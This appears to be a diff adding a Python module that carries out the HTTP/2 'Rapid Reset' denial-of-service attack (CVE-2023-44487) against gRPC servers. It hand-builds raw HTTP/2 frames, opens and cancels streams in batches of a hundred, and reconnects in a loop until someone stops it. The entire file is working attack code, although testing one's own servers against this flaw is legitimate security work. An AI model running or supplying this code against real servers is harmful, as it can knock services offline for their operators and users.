@@ -1,0 +1,76 @@
+"""One connection that opens streams and resets them in a loop (CVE-2023-44487), in bytes that no gRPC library sends.
+
+Frames are those of RFC 9113; headers are literals without indexing, RFC 7541 section 6.2.2.
+"""
+
+import contextlib
+import select
+import socket
+import struct
+import threading
+
+_HEADERS, _DATA, _RST_STREAM, _SETTINGS = 1, 0, 3, 4
+_END_HEADERS = 4
+_CANCEL = struct.pack(">I", 8)
+_EMPTY_MESSAGE = bytes(5)
+_NUM_AT_ONCE = 100
+
+
+class RapidReset:
+    """Attacks an address until it is stopped; connects again where the server closes the connection."""
+
+    def __init__(self, host: str, port: int, method: str) -> None:
+        self.num_streams = 0
+        self._address = (host, port)
+        self._headers = b"".join(
+            _literal(name, value)
+            for name, value in (
+                (":method", "POST"),
+                (":scheme", "http"),
+                (":path", method),
+                (":authority", host),
+                ("content-type", "application/grpc"),
+                ("te", "trailers"),
+            )
+        )
+        self._stopped = threading.Event()
+
+    def stop(self) -> None:
+        """Let `run` return."""
+        self._stopped.set()
+
+    def run(self) -> None:
+        """Attack; blocks."""
+        while not self._stopped.is_set():
+            with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=5.0) as connection:
+                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
+                self._attack(connection)
+
+    def _attack(self, connection: socket.socket) -> None:
+        """Go on until the server closes the connection, which raises OSError."""
+        stream = 1
+        while not self._stopped.is_set():
+            numbers = range(stream, stream + 2 * _NUM_AT_ONCE, 2)
+            connection.sendall(b"".join(map(self._opened_and_reset, numbers)))
+            self.num_streams += _NUM_AT_ONCE
+            stream = numbers[-1] + 2
+            _discard(connection)
+
+    def _opened_and_reset(self, stream: int) -> bytes:
+        opened = _frame(_HEADERS, _END_HEADERS, stream, self._headers) + _frame(_DATA, 0, stream, _EMPTY_MESSAGE)
+        return opened + _frame(_RST_STREAM, 0, stream, _CANCEL)
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def _literal(name: str, value: str) -> bytes:
+    return bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()
+
+
+def _discard(connection: socket.socket) -> None:
+    """Read what has come, so that the server can write; raises OSError when it has closed the connection."""
+    is_readable, _, _ = select.select([connection], [], [], 0.0)
+    if is_readable and not connection.recv(1 << 20):
+        raise ConnectionResetError("closed by the server")
